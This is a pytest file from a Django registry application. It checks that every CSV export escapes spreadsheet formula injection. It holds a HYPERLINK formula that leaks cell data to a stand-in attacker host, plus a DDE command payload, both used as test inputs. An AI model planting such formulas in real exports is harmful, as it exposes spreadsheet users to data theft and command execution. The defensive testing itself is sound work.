"""Finding 6: no CSV export lets a spreadsheet run a cell (formula injection)."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from tests.monitor.registry_factory import Spec, create

from bovenwater.accounts.actor import Actor
from bovenwater.accounts.models import Membership, Organisation
from bovenwater.accounts.roles import OrganisationKind, Role
from bovenwater.audit.models import Action
from bovenwater.audit.purposes import Purpose
from bovenwater.audit.services import log_processing
from bovenwater.kompas.models import Note, TargetKind
from bovenwater.lib.csvsafe import FORMULA_STARTS, safe_cell
from bovenwater.monitor.fill import fill_counts
from bovenwater.monitor.opendata import release_create
from bovenwater.monitor.selectors import _value_labels
from bovenwater.reference.models import PoliceUnit
from bovenwater.registry.importing import RowError, error_report_csv
from bovenwater.registry.models import Registration

EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"klik")'
SRC = Path(__file__).resolve().parents[2] / "src" / "bovenwater"


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_defused(text: str) -> None:
    cells = _cells(text)
    assert "'" + EVIL in cells or any(cell.startswith("'=") for cell in cells)
    dangerous = [
        c for c in cells if c.startswith(FORMULA_STARTS) and not re.fullmatch(r"[+-]\d+", c)
    ]
    assert dangerous == []


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_escaped(start: str) -> None:
    assert safe_cell(start + "cmd|' /C calc'!A0") == "'" + start + "cmd|' /C calc'!A0"


def test_numbers_and_ordinary_text_stay_as_they_are() -> None:
    assert [safe_cell(v) for v in (-3, 2.5, "+5", "-3", "-2,5", "Gemeente Zwolle", "")] == [
        -3,
        2.5,
        "+5",
        "-3",
        "-2,5",
        "Gemeente Zwolle",
        "",
    ]


def test_no_export_writes_csv_without_the_helper() -> None:
    """Every CSV export goes through lib.csvsafe (the reference data generator writes a data file)."""
    # data files read back by the program, never handed to a person: the reference data
    # generator and the linkage demo's synthetic input lists
    allowed = {"lib/csvsafe.py", "reference/generate_nationalities.py", "linkage/demo.py"}
    offenders = [
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        if str(path.relative_to(SRC)) not in allowed
        and re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


@pytest.mark.django_db
def test_processing_log_export(
    make_member: Callable[..., Membership], login_as: Callable[[Membership], Client]
) -> None:
    officer = make_member(role=Role.PRIVACY_OFFICER)
    prober = make_member(role=Role.SIGNALLER, organisation=officer.organisation)
    log_processing(
        actor=Actor(user=prober.user, membership=prober),
        action=Action.VIEW,
        object_type="intake.signal",
        object_id=EVIL,  # a made-up reference in a URL ends up here
        purpose=Purpose.SIGNAL_HANDLING,
    )
    client = login_as(officer)
    response = client.get(reverse("audit:export"))
    assert response.status_code == 200
    _assert_defused(response.content.decode())


@pytest.mark.django_db
def test_kompas_notes_export(
    make_member: Callable[..., Membership], login_as: Callable[[Membership], Client]
) -> None:
    member = make_member(role=Role.POLICY_OFFICER)
    Note.objects.create(owner=member.user, kind=TargetKind.SCENARIO, target="loverboy", body=EVIL)
    client = login_as(member)
    response = client.get(reverse("kompas:notes_export"), {"formaat": "csv"})
    assert response.status_code == 200
    _assert_defused(response.content.decode())


@pytest.mark.django_db
def test_monitor_table_export(
    make_member: Callable[..., Membership], login_as: Callable[[Membership], Client]
) -> None:
    PoliceUnit.objects.filter(code="PE-AMSTERDAM").update(name=EVIL)
    _value_labels.cache_clear()  # names are cached per language; an earlier test filled it
    create([Spec(2024, "PE-AMSTERDAM", "politie", False, "female", "NL") for _ in range(12)])
    fill_counts()
    client = login_as(make_member(role=Role.ANALYST))
    response = client.get(reverse("monitor:table_csv", args=["police_unit"]), {"jaar": "2024"})
    _value_labels.cache_clear()  # leave no planted name behind for the next test
    assert response.status_code == 200
    _assert_defused(response.content.decode())


@pytest.mark.django_db
def test_open_data_export(client: Client) -> None:
    create([Spec(2024, "PE-AMSTERDAM", "politie", False, "female", "NL") for _ in range(12)])
    fill_counts()
    release = release_create(k=10)
    release.tables["melder"][0][2] = EVIL
    release.save(update_fields=["tables"])
    response = client.get(reverse("monitor:open_data_csv", args=[release.pk, "melder"]))
    assert response.status_code == 200
    _assert_defused(response.content.decode())


def test_registry_import_error_report() -> None:
    report = error_report_csv([RowError(row=2, column="achternaam", message=EVIL)])
    _assert_defused(report)


@pytest.mark.django_db
def test_registry_htcds_export(
    make_member: Callable[..., Membership],
    make_organisation: Callable[..., Organisation],
    login_as: Callable[[Membership], Client],
) -> None:
    analyst = make_member(
        role=Role.ANALYST,
        organisation=make_organisation(kind=OrganisationKind.NATIONAL_REGISTRAR),
    )
    client = login_as(analyst)
    upload = io.StringIO()
    csv.writer(upload).writerows(
        [
            ["registratiedatum", "achternaam", "geboortedatum", "soort_melder", "plaats_delict"],
            ["2024-02-01", "Bakker", "2007-05-04", "politie", "GM0363"],
        ]
    )

    imported = client.post(
        reverse("registry:import"),
        {"file": SimpleUploadedFile("r.csv", upload.getvalue().encode()), "format": "plain"},
    )
    assert imported.status_code == 302
    Registration.objects.update(reporting_organisation_name=EVIL)
    response = client.post(reverse("registry:htcds_export"))
    text = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
    _assert_defused(text)
